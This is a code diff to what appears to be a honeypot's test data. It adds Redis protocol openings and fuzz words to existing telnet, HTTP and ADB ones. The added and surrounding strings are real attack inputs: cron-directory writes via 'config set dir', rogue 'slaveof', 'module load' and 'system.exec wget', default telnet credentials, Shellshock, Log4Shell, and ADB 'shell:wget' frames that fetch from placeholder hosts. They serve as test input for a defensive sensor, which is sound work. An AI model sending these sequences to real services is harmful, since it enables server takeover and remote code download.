@@ -38,6 +38,10 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
         b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
     ),
+    "redis": (
+        b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
+        b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
+    ),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
 }  # fmt: skip
 # Of what a test sends at random, much is what these rooms listen to.
@@ -47,7 +51,9 @@ WORDS = [
     b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
     b"() { :;};", b"exit\n", CONNECT, frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
     frame(b"OPEN", 8, 0, b"sync:\0"), frame(b"WRTE", 8, 1, b"SEND\x07\0\0\0/data/fDATA\x03\0\0\0abc"),
-    frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
+    b"*2\r\n", b"$3\r\nGET\r\n", b"$", b"config set dir /etc\r\n", b"set x 1\r\n", b"save\r\n",
+    b"slaveof 192.0.2.9 1\r\n",
+    b"module load x\r\n", b"system.exec 'wget http://a/b'\r\n", frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
